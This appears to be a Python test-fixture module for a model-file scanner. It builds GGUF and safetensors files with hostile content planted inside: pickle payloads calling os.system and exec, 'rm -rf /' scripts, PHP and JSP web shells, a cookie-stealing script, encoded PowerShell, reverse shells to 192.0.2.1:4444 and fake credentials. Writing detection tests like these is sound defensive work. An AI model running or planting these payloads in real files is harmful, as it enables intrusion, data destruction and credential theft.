"""Well-formed model files with something in them that has no business there, or with weights that cannot work."""

import base64
import io
import struct
import tarfile
from collections.abc import Iterator

from tests.support.hostile_models import (
    BASE,
    STRING,
    TYPE_F16,
    TYPE_F32,
    TYPE_I8,
    TYPE_Q4_0,
    TYPE_Q4_K,
    TYPE_Q8_0,
    Case,
    Gguf,
    Weights,
    entry,
    kv,
    safetensors,
    zip_bytes,
)

NOISE = bytes((n * 37 + 11) % 251 for n in range(2_048))
BF16 = "BF16"


def elf() -> bytes:
    """The first bytes of a 64-bit Linux program."""
    head = b"\x7fELF\x02\x01\x01\0" + bytes(8) + struct.pack("<HHI", 3, 62, 1)
    return head + struct.pack("<QQQIHHHHHH", 64, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(64)


def pe(offset: int = 128) -> bytes:
    """The first bytes of a 64-bit Windows program whose header lies at `offset`."""
    stub = b"MZ".ljust(60, b"\x90") + struct.pack("<I", offset)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 3, 0, 0, 0, 0xF0, 0x22) + b"\x0b\x02" + bytes(238)
    return stub.ljust(offset, b"\0") + coff


def macho() -> bytes:
    """The first bytes of a 64-bit macOS program."""
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 16, 1_024, 0x85, 0)


def tar() -> bytes:
    """A small tar archive."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("run.sh"))
    return out.getvalue()


def eicar() -> bytes:
    """The EICAR test file, not written out so that this file is not reported."""
    parts = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "H+H*")
    return f"{parts[0]}${''.join(parts[1:3])}${parts[3]}".encode()


def private_key() -> bytes:
    """Something of the shape of a private key; it is none."""
    body = base64.encodebytes(NOISE[:200]).decode()
    return f"-----BEGIN {'PRIVATE'} KEY-----\n{body}-----END PRIVATE KEY-----\n".encode()


def in_weights(thing: bytes, *, at: int = 100) -> bytes:
    """A GGUF with `thing` at byte `at` of a tensor of whole numbers."""
    body = (NOISE * (at // len(NOISE) + 1))[:at] + thing + NOISE
    return Gguf(tensors=(Weights("table", (len(body),), TYPE_I8, data=body),)).build()


def in_text(text: str) -> bytes:
    """A GGUF with `text` as its description."""
    return Gguf(keys=(*BASE, kv("general.description", STRING, text))).build()


def planted() -> Iterator[Case]:
    """Well-formed files in which a rule must match; `code` is the match's."""
    for name, thing in (
        ("elf", elf()), ("windows", pe()), ("windows with a long stub", pe(1_024)), ("macos", macho()),
        ("wasm", b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0"), ("zip", zip_bytes("run.sh")), ("tar", tar()),
    ):  # fmt: skip
        rule = {"elf": "elf_program", "macos": "macos_program", "wasm": "wasm_program", "zip": "zip_archive",
                "tar": "tar_archive"}.get(name, "windows_program")  # fmt: skip
        yield Case(f"{name} in the weights", in_weights(thing), f"rules.{rule}")
        yield Case(f"{name} over a window's border", in_weights(thing, at=(1 << 20) - 300), f"rules.{rule}")
    yield from _pickles()
    yield from _scripts()
    yield from _texts()


def _pickles() -> Iterator[Case]:
    yield Case(
        "pickle with a call", in_weights(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R."), "rules.pickle_call"
    )
    stacked = b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94\x8c\x04pass\x94\x85\x94R."
    yield Case("pickle with a stacked call", in_weights(stacked), "rules.pickle_call")
    framed = b"\x80\x04\x95\x0b\0\0\0\0\0\0\0}\x94\x8c\x01a\x94K\x01s."
    yield Case("pickle in a frame", in_weights(framed), "rules.pickle_frame")
    torch = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\0."
    yield Case("pickle of a tensor", in_weights(torch), "rules.pickle_call")


def _scripts() -> Iterator[Case]:
    yield Case("script in the weights", in_weights(b"#!/bin/sh\nrm -rf /\n"), "rules.script")
    yield Case(
        "script at the start of the weights", in_weights(b"#!/usr/bin/env python3\n", at=0), "rules.script"
    )
    yield Case("batch file in the weights", in_weights(b"@ECHO OFF\r\ndel *\r\n"), "rules.script")
    yield Case("web page in the weights", in_weights(b"<html><script>x</script>"), "rules.script")
    yield Case("eicar in the weights", in_weights(eicar()), "rules.eicar_test")
    yield Case("private key in the weights", in_weights(private_key()), "rules.private_key")
    key = {"__metadata__": {"k": private_key().decode()}, "a": entry()}
    yield Case("private key in safetensors metadata", safetensors(key, bytes(16)), "rules.private_key")
    yield Case("script in a safetensors file", safetensors(
        {"a": entry("U8", (64,), (0, 64))}, b"#!/usr/bin/perl\n".ljust(64, b"\0")
    ), "rules.script")  # fmt: skip


def _texts() -> Iterator[Case]:
    for name, text, rule in (
        ("php", "<?php system($_GET['c']); ?>", "php_script"),
        ("php short", "<?= eval (base64_decode('x')) ?>", "php_script"),
        ("jsp", '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>', "jsp_script"),
        ("remote script", '<script async src="https://example.org/x.js">', "html_script"),
        ("inline script", "<script>fetch('//example.org/?'+document.cookie)</script>", "html_script"),
        ("event", "<img src=x onerror=\"eval(atob('eA=='))\">", "html_script"),
        ("link", "<a href='javascript:eval(name)'>", "html_script"),
        ("powershell", f"powershell.exe -NoP -W Hidden -enc {base64.b64encode(NOISE[:60]).decode()}",
         "encoded_powershell"),
        ("reverse shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse_shell"),
        ("netcat", "nc 192.0.2.1 4444 -e /bin/sh", "reverse_shell"),
        ("private key", private_key().decode(), "private_key"),
        ("eicar", eicar().decode(), "eicar_test"),
        ("cloud key", "key " + "AKIA" + "Q3EGRIEN4XYZABCD", "credential"),
        ("forge token", "ghp_" + "aB3" * 12, "credential"),
        ("hub token", "hf_" + "aBcD" * 8 + "eF", "credential"),
    ):  # fmt: skip
        yield Case(f"{name} in the metadata", in_text(text), f"rules.{rule}")


def innocent() -> Iterator[Case]:
    """Files that look a little like the above and in which no rule may match."""
    yield Case("markup", in_text("<script>alert(1)</script> <b>bold</b> <img src=x onerror=alert(1)>"))
    yield Case(
        "talk of programs", in_text("Written in PHP (<?php ... ?>), run by #!/bin/sh, PK, MZ, ELF, ustar")
    )
    yield Case(
        "talk of keys",
        in_text("-----BEGIN PRIVATE KEY----- is how a key begins; AKIAIOSFODNN7EXAMPLE is none"),
    )
    yield Case(
        "letters in the weights", in_weights(b"MZ PE\0\0 PK\x03\x04 \x7fELF ustar \0asm #!/bin <?php-")
    )
    yield Case("zeros in the weights", in_weights(bytes(4_096)))
    yield Case(
        "shell talk", in_text("Install with: pip install x; curl -LO https://example.org/x.tar.gz; -e option")
    )


def broken_weights() -> Iterator[Case]:
    """Well-formed files whose numbers cannot work; refused with `tensor.not_finite`."""
    nan, inf = b"\x00\x00\xc0\x7f", b"\x00\x00\x80\x7f"

    def of(name: str, kind: int, fill: bytes, dims: tuple[int, ...] = (256, 4)) -> Case:
        body = fill * (Weights(dims=dims, kind=kind).nbytes() // len(fill))
        whole = Gguf(tensors=(Weights("blk.0.weight", dims, kind, data=body),)).build()
        return Case(name, whole, "tensor.not_finite")

    yield of("F32 NaN", TYPE_F32, nan)
    yield of("F32 infinite matrix", TYPE_F32, inf)
    yield of("F32 NaN in a vector", TYPE_F32, nan, (8,))
    yield of("F16 NaN", TYPE_F16, b"\x00\x7e")
    yield of("Q8_0 scale NaN", TYPE_Q8_0, b"\x00\x7e" + bytes(32))
    yield of("Q8_0 scale infinite", TYPE_Q8_0, b"\x00\x7c" + bytes(32))
    yield of("Q4_0 scale negative infinite", TYPE_Q4_0, b"\x00\xfc" + bytes(16))
    yield of("Q4_K scale NaN", TYPE_Q4_K, b"\xff\x7f\x00\x00" + bytes(140))
    yield of("Q4_K minimum NaN", TYPE_Q4_K, b"\x00\x3c\x00\x7e" + bytes(140))
    for dtype, fill in (
        ("F32", nan),
        ("F16", b"\x00\x7e"),
        (BF16, b"\xc0\x7f"),
        ("F64", b"\0" * 6 + b"\xf8\x7f"),
    ):
        data = (fill * 16)[: len(fill) * 16]
        yield Case(
            f"safetensors {dtype} NaN", safetensors({"a": entry(dtype, (4, 4), (0, len(data)))}, data),
            "tensor.not_finite",
        )  # fmt: skip
